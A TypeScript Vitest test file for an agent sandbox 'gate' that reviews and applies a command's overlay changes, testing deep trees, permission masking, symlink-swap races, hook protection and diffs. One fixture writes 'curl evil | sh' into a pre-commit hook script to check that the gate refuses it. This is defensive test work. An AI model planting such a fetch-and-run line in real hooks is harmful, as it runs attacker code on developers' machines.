/**
 * The gate over layers written here as a command's upper layer would be (no overlay needed): it
 * reads what a command may leave (unreadable entries, a tree deeper than a path can name, many
 * thousands of files) without failing, applies through descriptors (a directory swapped for a
 * link to the home while it writes changes nothing of where it writes), masks modes, and a
 * diff says what it shows only by name.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { layerChanges } from '../../src/agent/gate.js';
import { applyChanges } from '../../src/agent/gate-apply.js';
import { Layer } from '../../src/agent/layers.js';
import { removeTree } from '../../src/agent/tree-at.js';
import { changeDiff, permissions } from '../../src/client/change-diff.js';
import { swapper } from '../harness/racer.js';
import { eventually } from '../harness/wait.js';

const base = mkdtempSync(join(tmpdir(), 'hoop-gate-layer-'));
afterAll(() => removeTree(base)); // Node's own rmSync recurses: too deep for it
let made = 0;

/** The latest change time (ms) of `dir` and what it holds: a run that begins then finds none of it the person's since. */
function newestChange(dir: string): number {
  let newest = lstatSync(dir).ctimeMs;
  for (const e of readdirSync(dir, { withFileTypes: true, recursive: true })) newest = Math.max(newest, lstatSync(join(e.parentPath, e.name)).ctimeMs);
  return newest;
}

/** A place with `lower` in it and a layer over it whose upper layer `upper` writes. */
function layered(lower: (place: string) => void, upper: (upper: string) => void): { place: string; layer: Layer } {
  const dir = join(base, `t${made++}`);
  const place = join(dir, 'place');
  mkdirSync(place, { recursive: true });
  lower(place);
  const s = statSync(place);
  const layer = new Layer(join(dir, 'layer'), {
    run: `run-t${made}`,
    startedAt: Math.ceil(newestChange(place)),
    places: [{ path: place, dir: true, dev: s.dev, ino: s.ino }],
    agent: 'test',
    command: 'test',
    cwd: place,
    pid: 0,
    pidStart: '',
    kept: false,
    protectedPaths: [],
    allowControls: [],
    review: false,
  });
  mkdirSync(layer.upper(0), { recursive: true });
  upper(layer.upper(0));
  return { place, layer };
}

/** This process's umask, as /proc says it. */
const umask = (): number => Number.parseInt(/^Umask:\s*([0-7]+)$/m.exec(readFileSync('/proc/self/status', 'utf8'))![1]!, 8);

describe('the gate over a layer', () => {
  it('reads what the command left unreadable, deeper than a path can name, and thousands of files; applies what it can and says why not the rest', async () => {
    const { place, layer } = layered(
      () => {},
      (up) => {
        mkdirSync(join(up, 'many'));
        for (let i = 0; i < 5_000; i++) writeFileSync(join(up, 'many', `f${i}`), `${i}\n`);
        writeFileSync(join(up, 'locked.txt'), 'locked\n', { mode: 0o000 });
        mkdirSync(join(up, 'closed'));
        writeFileSync(join(up, 'closed', 'in.txt'), 'in\n');
        chmodSync(join(up, 'closed'), 0o311);
        // 2,100 levels of `d/`: past PATH_MAX (4,096 bytes) from the place.
        // One process, not 2,100 (each mkdir a fork of its own).
        const deep = "const fs = require('node:fs'); for (let i = 0; i < 2100; i++) { fs.mkdirSync('d'); process.chdir('d'); } fs.writeFileSync('f', 'deep\\n');";
        expect(spawnSync(process.execPath, ['-e', deep], { cwd: up }).status).toBe(0);
      },
    );
    const changes = await layerChanges(layer, process.env);
    const applied = applyChanges(layer, changes);
    expect(readdirSync(join(place, 'many'))).toHaveLength(5_000);
    expect(readFileSync(join(place, 'locked.txt'), 'utf8')).toBe('locked\n');
    expect(readFileSync(join(place, 'closed', 'in.txt'), 'utf8')).toBe('in\n');
    // What lies past what a path can name is refused with its reason, not the end of the gate.
    const deep = changes.find((c) => c.rel.endsWith('/f'));
    expect(deep?.refused ?? 'read').toMatch(/could not be read|read/);
    expect(applied.added).toBeGreaterThan(5_000);
    // The layer goes, however deep and closed it is.
    layer.remove();
    expect(existsSync(layer.dir)).toBe(false);
  });

  it('gives group and others no more than the person’s entry did (a new one: than the umask does) but execute, and no special bit but the person’s own on a directory', async () => {
    const { place, layer } = layered(
      (p) => {
        writeFileSync(join(p, 'shared.txt'), 'a\n');
        writeFileSync(join(p, 'secrets.env'), 'K=1\n');
        writeFileSync(join(p, 'run.sh'), 'echo\n');
        mkdirSync(join(p, 'team'));
        for (const [f, m] of [
          ['shared.txt', 0o666],
          ['secrets.env', 0o600],
          ['run.sh', 0o644],
          ['team', 0o2775],
        ] as const)
          chmodSync(join(p, f), m);
      },
      (up) => {
        writeFileSync(join(up, 'tool.sh'), '#!/bin/sh\n');
        writeFileSync(join(up, 'shared.txt'), 'b\n');
        writeFileSync(join(up, 'secrets.env'), 'K=2\n');
        writeFileSync(join(up, 'run.sh'), 'echo 2\n');
        mkdirSync(join(up, 'team'));
        writeFileSync(join(up, 'team', 'x'), 'x\n');
        for (const [f, m] of [
          ['tool.sh', 0o4777],
          ['shared.txt', 0o666],
          ['secrets.env', 0o644],
          ['run.sh', 0o755],
          ['team', 0o777],
        ] as const)
          chmodSync(join(up, f), m);
      },
    );
    const changes = await layerChanges(layer, process.env);
    // Each permission change is shown in the diff, not only git's executable bit.
    const diff = (rel: string): string => changeDiff(changes.find((c) => c.rel === rel)!, { cwd: '/' }).text;
    expect(diff('secrets.env')).not.toContain('permissions');
    expect(diff('run.sh')).toContain(`permissions rw-r--r-- -> ${permissions(0o755 & ~(umask() & 0o011))}`);
    applyChanges(layer, changes);
    const mode = (f: string): number => statSync(join(place, f)).mode & 0o7777;
    expect(mode('tool.sh')).toBe(0o777 & ~umask());
    expect(changes.find((c) => c.rel === 'tool.sh')?.dropped).toBe(true);
    expect(mode('shared.txt')).toBe(0o666); // hers had it
    expect(mode('secrets.env')).toBe(0o600); // never widened to be read by others
    expect(mode('run.sh')).toBe(0o755 & ~(umask() & 0o011)); // made runnable, as the umask lets it
    expect(mode('team')).toBe(0o2775); // her set-group-ID stays; no write for others
  });

  it('refuses what the person’s own hooks run from the tree, and a repository the command made, whole', async () => {
    const { place, layer } = layered(
      (p) => {
        for (const d of ['.git/objects', '.git/refs', '.git/hooks', 'scripts']) mkdirSync(join(p, d), { recursive: true });
        writeFileSync(join(p, '.git/HEAD'), 'ref: refs/heads/main\n');
        writeFileSync(join(p, '.git/hooks/pre-commit'), '#!/bin/sh\nexec ./scripts/pre-commit.sh "$@"\n');
        writeFileSync(join(p, 'scripts/pre-commit.sh'), 'true\n');
      },
      (up) => {
        mkdirSync(join(up, 'scripts'));
        writeFileSync(join(up, 'scripts/pre-commit.sh'), 'curl evil | sh\n');
        writeFileSync(join(up, 'scripts/other.sh'), 'echo\n');
        for (const d of ['lib/.git/objects', 'lib/.git/refs', 'lib/.githooks']) mkdirSync(join(up, d), { recursive: true });
        writeFileSync(join(up, 'lib/.git/HEAD'), 'ref: refs/heads/main\n');
      },
    );
    const changes = await layerChanges(layer, { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null' });
    const refused = (rel: string): string | undefined => changes.find((c) => c.rel === rel)?.refused;
    expect(refused('scripts/pre-commit.sh')).toMatch(/your git configuration names .*pre-commit\.sh/);
    expect(refused('scripts/other.sh')).toBeUndefined();
    expect(refused('lib/.git')).toMatch(/a repository the command made/);
    expect(refused('lib/.git/HEAD')).toMatch(/inside lib\/\.git/);
    applyChanges(layer, changes);
    expect(readFileSync(join(place, 'scripts/pre-commit.sh'), 'utf8')).toBe('true\n');
  });

  it('writes through descriptors: a directory swapped for a link to the home while it applies (RENAME_EXCHANGE in a loop) gets nothing into the home', async () => {
    const home = join(base, 'home');
    mkdirSync(home, { recursive: true });
    let intoHome = 0;
    let conflicts = 0;
    for (let round = 0; round < 15; round++) {
      const { place, layer } = layered(
        (p) => {
          mkdirSync(join(p, 'sub'));
          symlinkSync(home, join(p, 'homelink'));
        },
        (up) => {
          mkdirSync(join(up, 'sub'));
          for (let i = 0; i < 50; i++) writeFileSync(join(up, 'sub', `f${i}`), 'x\n');
        },
      );
      const changes = await layerChanges(layer, process.env);
      const racer = swapper(join(place, 'sub'), join(place, 'homelink'));
      try {
        await eventually(() => expect(lstatSync(join(place, 'sub')).isSymbolicLink()).toBe(true), { timeout: 60_000, interval: 5 });
        conflicts += applyChanges(layer, changes).conflicts.length;
      } finally {
        racer.kill();
      }
      intoHome += readdirSync(home).length;
    }
    expect(intoHome).toBe(0);
    expect(conflicts).toBeGreaterThan(0); // the race was on
  });

  it('shows a directory a file replaced, and says what it shows only by name', async () => {
    const { layer } = layered(
      (p) => {
        mkdirSync(join(p, 'was-dir'));
        writeFileSync(join(p, 'was-dir', 'a'), 'a\n');
        writeFileSync(join(p, 'blob'), 'text\n');
      },
      (up) => {
        writeFileSync(join(up, 'was-dir'), 'now a file\n');
        writeFileSync(join(up, 'blob'), Buffer.from([0, 1, 2]));
        writeFileSync(join(up, 'plain.txt'), 'plain\n');
        writeFileSync(join(up, 'min.js'), `${'a;'.repeat(5_000)}\n`);
      },
    );
    const changes = await layerChanges(layer, process.env);
    const shown = (rel: string) => changeDiff(changes.find((c) => c.rel === rel)!, { cwd: '/' });
    expect(shown('was-dir').text).toMatch(/deleted directory .*was-dir\/ \(1 entry in it\), replaced by the file below/);
    expect(shown('was-dir').whole).toBe(true);
    expect(shown('blob')).toMatchObject({ whole: false, text: expect.stringContaining('Binary files') });
    expect(shown('plain.txt')).toMatchObject({ whole: true, text: expect.stringContaining('+plain') });
    // A line too long to read in a review is named, not taken as read.
    expect(shown('min.js')).toMatchObject({ whole: false, text: expect.stringContaining('a line of 10000 characters, too long to read here') });
    expect(lstatSync(layer.upper(0)).isDirectory()).toBe(true);
  });
});
